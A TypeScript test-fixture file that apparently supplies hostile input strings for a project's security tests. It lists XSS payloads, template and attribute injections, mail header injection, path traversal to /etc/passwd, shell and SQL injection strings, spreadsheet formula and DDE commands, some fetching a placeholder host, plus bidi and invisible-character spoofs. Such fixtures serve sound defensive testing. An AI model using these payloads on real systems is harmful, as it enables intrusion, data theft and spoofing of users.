/** What every script below does when it runs: a test's recorder counts who sets it. */
export const mark = '__pwned'
const run = `window.${mark}=1`
/** Where a string that fetches goes. */
export const markHost = 'pwned.example'
const url = `https://${markHost}/x`

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script >`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `<script src=${url}></script>`,
  `<script src="app://bundle/${mark}.js"></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<script type="text/javascript">${run};</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style></script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<iframe srcdoc="<script>top.${mark}=1</script>">`,
  `<plaintext><script>${run}</script>`,
  `<xmp></xmp><script>${run}</script>`,
  `<!--[if true]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${run}</script>`
] as const

const eventHandlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img src=x onerror\n=${run}>`,
  `<img src=x\tonerror=${run}>`,
  `<img src=data:, alt="x" onload=${run} onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<body onhashchange=${run}>`,
  `<video><source onerror=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>x</button>`,
  `<details open ontoggle=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div onmouseover=${run} style="position:fixed;inset:0">x</div>`,
  `<div onpointerenter=${run}>x</div>`,
  `<div contenteditable autofocus onfocus=${run}>x</div>`,
  `<div tabindex=0 autofocus onfocus=${run}>x</div>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=data:text/css, onload=${run}>`,
  `<object data=x onerror=${run}>`,
  `<embed src=x onerror=${run}>`,
  `<iframe onload=${run}>`,
  `<form onformdata=${run}><button autofocus>x</button></form>`,
  `<a onclick=${run}>klik</a>`,
  `<p onanimationstart=${run} style="animation:x 1s">x</p>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`
] as const

const foreignMarkup = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>${run.replace('=', '&#61;')}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<frameset onload=${run}>`,
  `<table background="javascript:${run}">`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`
] as const

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `<a href="javascript:${run}">klik</a>`,
  `<a href=javascript:${run} autofocus onfocus=${run}>klik</a>`,
  `<iframe src="javascript:top.${mark}=1">`,
  `<iframe src="data:text/html,<script>top.${mark}=1</script>">`,
  `<form action="javascript:${run}"><input type=submit autofocus>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<base href="${url}/">`,
  `<a href="app://preview/../bundle/index.html">x</a>`,
  `app://preview/../bundle/index.html`,
  `app://bundle/../../etc/passwd`,
  `file:///etc/passwd`,
  `<iframe src="app://bundle/index.html"></iframe>`,
  `<img src="${url}">`,
  `<a ping="${url}" href="#" autofocus>x</a>`,
  `<object data="${url}"></object>`
] as const

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% raw %}${run}{% endraw %}`,
  `[[${run}]]`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `<div ng-app ng-init="${run}">`,
  `<div v-html="'<img src=x onerror=${run}>'">`,
  `<div x-data x-init="${run}">`,
  `{activatiecode}`,
  `{link}`,
  `{naam}{naam}`,
  `{gebruikersnaam} {adres} {geldigTot} {instituut}`,
  `{ activatiecode }`,
  `{{activatiecode}}`,
  `%s%s%s%n`,
  `$&$1$\`$'`
] as const

const breakOuts = [
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `\`><script>${run}</script>`,
  `" onmouseover=${run} x="`,
  `' onfocus=${run} autofocus x='`,
  `" autofocus onfocus="${run}`,
  `x" style="position:fixed;inset:0" onpointermove="${run}`,
  `\\"><img src=x onerror=${run}>`,
  `\\'-${run}-\\'`,
  `'-${run}-'`,
  `";${run};//`,
  `'+${run}+'`,
  `</a><img src=x onerror=${run}>`,
  `</td></tr></table><img src=x onerror=${run}>`,
  `*/${run}/*`,
  `<!--><img src=x onerror=${run}>-->`
] as const

const styles = [
  `</style><script>${run}</script>`,
  `<style>@import '${url}';</style>`,
  `<style>*{background:url(${url})}</style>`,
  `<div style="width:expression(${run})">`,
  `<div style="background:url(javascript:${run})">`,
  `<div style="behavior:url(${url})">`,
  `<div style="-moz-binding:url(${url})">`,
  `<link rel=stylesheet href="${url}">`,
  `;background:url(${url});`,
  `x}</style><img src=x onerror=${run}>`
] as const

const encodings = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `&ltimg src=x onerror=${run}&gt`,
  `&amp;lt;script&amp;gt;${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `+/v8-+ADw-script+AD4-${run}`,
  `À¼script${run}`,
  `＜script＞${run}＜/script＞`,
  `﹤script﹥${run}﹤/script﹥`,
  `‹script›${run}‹/script›`,
  `<ſcript>${run}</ſcript>`,
  `<img src=x οnerror=${run}>`,
  `<scrıpt>${run}</scrıpt>`,
  `=?utf-8?B?PHNjcmlwdD4=?=`,
  `ZG9jdW1lbnQ= <script>${run}</script>`
] as const

const markdown = [
  `[klik](javascript:${run})`,
  `![x](${url})`,
  `<javascript:${run}>`,
  `[x]: ${url}`,
  `\`\`\`<script>${run}</script>\`\`\``
] as const

const mailHeaders = [
  `x\r\nBcc: everyone@${markHost}`,
  `x\nBcc: everyone@${markHost}`,
  `x\rBcc: everyone@${markHost}`,
  `x\r\n\r\n<script>${run}</script>`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `x\u2028Bcc: everyone@${markHost}`,
  `x\u0085Bcc: everyone@${markHost}`,
  `x\u000bBcc: everyone@${markHost}`,
  `x%0d%0aBcc:everyone@${markHost}`,
  `x\\r\\nBcc: everyone@${markHost}`,
  `=?utf-8?q?x=0d=0aBcc:=20everyone=40${markHost}?=`,
  `=?iso-8859-1?q?=3Cscript=3E?=`,
  `"x" <everyone@${markHost}>`,
  `x>, everyone@${markHost}, <y`,
  `x, everyone@${markHost}`,
  `x; everyone@${markHost}`,
  `(commentaar) x`,
  `x\r\n.\r\nMAIL FROM:<evil@${markHost}>`,
  `x:everyone@${markHost};`
] as const

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  'CON',
  'NUL.csv',
  'aux.txt',
  'C:\\Windows\\win.ini',
  '\\\\server\\share',
  '-rf',
  '~root',
  '$(touch pwned)',
  '`touch pwned`',
  '; touch pwned',
  '| touch pwned',
  "' OR 1=1 --",
  "'; DROP TABLE accounts; --"
] as const

const terminal = [
  '\u001b[2J\u001b[H',
  '\u001b[31mrood\u001b[0m',
  '\u001b]0;PWNED\u0007',
  '\u009b31m',
  'x\u0008\u0008y',
  'regel\n{"level":"info","message":"PWNED"}',
  'regel\r\n2026-01-01 PWNED',
  'x\u0007'
] as const

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  "=cmd|'/c calc'!A1",
  "+cmd|'/c calc'!A1",
  "-2+3+cmd|'/c calc'!A1",
  "@SUM(1+9)*cmd|'/c calc'!A1",
  `=HYPERLINK("${url}","klik")`,
  `=IMPORTXML("${url}","//a")`,
  `=WEBSERVICE("${url}")`,
  '=DDE("cmd";"/c calc";"x")',
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  'x"\r\n"=1+1'
] as const

const bidirectional = [
  'factuur\u202egnp.exe',
  '\u202aabc\u202c',
  '\u202babc\u202c',
  '\u202dabc\u202c',
  '\u202eabc\u202c',
  '\u2066abc\u2069',
  '\u2067abc\u2069',
  '\u2068abc\u2069',
  '\u2069\u2069abc',
  '\u200eabc',
  '\u200fabc',
  '\u061cabc',
  'abc\u2066\u202edef',
  'שלום 12 (34)',
  'مرحبا، 12'
] as const

const unseen = [
  'No\u200bor',
  'No\u200cor',
  'No\u200dor',
  'No\u2060or',
  'No\ufeffor',
  'No\u00ador',
  'No\u034for',
  'No\u180eor',
  'No\u3164or',
  'No\u115for',
  'No\uffa0or',
  'No\u2800or',
  'No\ufe0for',
  'No\u{e0100}or',
  '\u{e0041}\u{e0042}\u{e007f}Noor',
  'No\ufff9or\ufffa\ufffb',
  'No\u2028or',
  'No\u2029or',
  'No\u0000or',
  'No\u0001or',
  'No\u007for',
  'No\u0080or',
  'No\u009for',
  '\ud800Noor',
  'Noor\udc00',
  'No\ufffeor',
  'No\ue000or'
] as const

const large = [
  `N${'\u0315\u0321\u0489'.repeat(20)}oor`,
  `Z${'\u0300'.repeat(300)}`,
  'W'.repeat(99),
  'W'.repeat(5000),
  'ﷺ﷽'.repeat(40),
  '𒐫'.repeat(40),
  'a '.repeat(2000),
  '<'.repeat(1000),
  '👩‍👩‍👧‍👦'.repeat(30)
] as const

/** Texts that do harm where somebody shows, stores, sends or writes them carelessly, by what they try. */
export const hostileByKind = {
  scripts,
  eventHandlers,
  foreignMarkup,
  addresses,
  templates,
  breakOuts,
  styles,
  encodings,
  markdown,
  mailHeaders,
  names,
  terminal,
  formulas,
  bidirectional,
  unseen,
  large
} as const

export const hostileStrings: readonly string[] = Object.values(hostileByKind).flat()
